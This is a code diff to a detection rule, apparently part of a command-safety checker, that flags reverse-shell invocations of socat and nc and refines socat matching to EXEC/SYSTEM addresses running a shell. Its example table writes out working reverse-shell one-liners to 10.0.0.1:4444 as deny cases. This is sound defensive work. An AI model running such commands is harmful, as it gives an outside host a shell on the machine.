@@ -19,6 +19,7 @@ EXAMPLES = {
     "socat TCP:10.0.0.1:4444 EXEC:/bin/sh": "deny",
     "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f": "deny",
     "nc -z localhost 5432": None,
+    "socat TCP-LISTEN:80,fork EXEC:cat": None,
     "nc -l 8080": None,
     "echo hi | nc localhost 80": None,
 }
@@ -29,7 +30,14 @@ SHELLS = frozenset("sh bash zsh dash ksh".split())
 def check(call: Call, scene: Scene) -> Finding | None:
     hit = call.has_flag("-e", "-c", "--exec", "--sh-exec") and call.program != "socat"
     if call.program == "socat":
-        hit = any(word.upper().startswith(("EXEC:", "SYSTEM:")) for word in call.args)
+        hit = any(runs_shell(word) for word in call.args)
     if any(source.program in SHELLS and source.has_flag("-i") for source in call.producers):
         hit = True
     return deny(f"`{shown(call)}` hands a shell on this machine to another one", "ss -tn") if hit else None
+
+
+def runs_shell(address: str) -> bool:
+    """`EXEC:/bin/sh`, `exec:'bash -li',pty`."""
+    kind, _, program = address.partition(":")
+    name = program.strip("'\"").split(",")[0].split(" ")[0].rpartition("/")[2]
+    return kind.upper() in ("EXEC", "SYSTEM") and name in SHELLS
